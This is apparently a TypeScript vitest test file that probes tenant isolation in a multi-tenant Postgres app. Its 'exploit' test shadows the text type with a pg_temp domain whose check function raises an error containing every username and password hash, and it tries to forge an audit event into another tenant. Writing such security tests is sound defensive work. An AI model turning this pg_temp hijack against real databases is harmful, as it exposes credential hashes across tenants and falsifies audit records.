import { asTenant, createTenants, createTestDatabase, type TestDatabase } from "@zongzhi/testing";
import { afterAll, beforeAll, it } from "vitest";

let db: TestDatabase;
beforeAll(async () => {
  db = await createTestDatabase();
  await createTenants(db.admin, ["62", "6209", "620981", "620981101", "620981102"]);
  const [t] = await db.admin`select id from app.tenants where code='620981102'`;
  await db.admin`insert into app.users (tenant_id, username, display_name, roles, password_hash) values (${t!.id}, 'victim', 'V', '{tenant_admin}', 'SECRET-HASH')`;
});
afterAll(() => db.close());

it("exploit", async () => {
  const [town] = await db.admin<{ id: string; code: string }[]>`select id, code from app.tenants where code = '620981101'`;
  console.log(await db.admin`select datcollate, datlocprovider from pg_database where datname = current_database()`);
  try {
    await asTenant(db.app, town!, async (tx) => {
      await tx.sql.unsafe(`create function pg_temp.evil(v pg_catalog.text) returns pg_catalog.bool language plpgsql as $$
        begin raise exception 'as % -> %', current_user, (select string_agg(username || '=' || coalesce(password_hash, '-'), ',') from app.users); end $$`);
      await tx.sql.unsafe(`create domain pg_temp.text as pg_catalog.text check (pg_temp.evil(value))`);
      console.log(await tx.sql`select * from auth.audit_list(10, null)`);
    });
  } catch (e) { console.log("ERR", (e as Error).message); }
  try {
    await asTenant(db.app, town!, async (tx) => {
      console.log(await tx.sql`select auth.audit('620981102', null, null, 'forged.event', null, null)`);
    });
    console.log(await db.admin`select scope_code, kind from app.audit_events`);
  } catch (e) { console.log("ERR2", (e as Error).message); }
});
